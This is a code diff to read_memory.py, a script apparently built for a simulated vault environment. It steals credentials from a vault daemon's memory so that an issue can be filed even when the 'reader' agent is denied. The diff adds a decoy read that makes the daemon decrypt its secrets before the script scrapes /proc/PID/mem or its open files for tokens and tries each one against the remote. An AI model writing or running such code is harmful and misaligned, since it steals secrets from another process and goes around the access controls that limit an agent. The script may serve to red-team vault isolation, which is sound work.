@@ -2,8 +2,10 @@
 
     read_memory.py --title T [--fds]
 
-Finds the daemon (the peer of VAULTSIM_SOCKET, by SO_PEERCRED; failing that,
-a process whose command line says vault and daemon), reads its memory through
+First a harmless read through the vault, so the daemon has the credentials
+decrypted in memory. Then finds the daemon (the peer of VAULTSIM_SOCKET, by
+SO_PEERCRED; failing that, a process whose command line says vault and
+daemon), reads its memory through
 /proc/PID/mem, picks out every token-looking string and the remote's URL, and
 files the issue at the remote directly with each token until one works. With
 --fds it reads the daemon's open files instead (/proc/PID/fd) to find the
@@ -66,6 +68,8 @@ def main() -> int:
     args = p.parse_args()
     tokens: set[str] = set()
     urls: set[str] = set()
+    agent = c.Agent("reader")
+    agent.call("read_issue", {"issue_id": "ISS-1"}, wait_s=5)  # now the daemon holds the token in memory
     pid = find_daemon()
     try:
         if pid is not None:
@@ -85,7 +89,6 @@ def main() -> int:
             if status < 300:
                 c.say("done: filed the issue")
                 return 0
-    agent = c.Agent("reader")
     r = agent.call("create_issue", {"title": args.title}, wait_s=5)
     c.say("done: filed the issue" if r.get("ok") else f"not done: {r.get('category')}")
     return 0
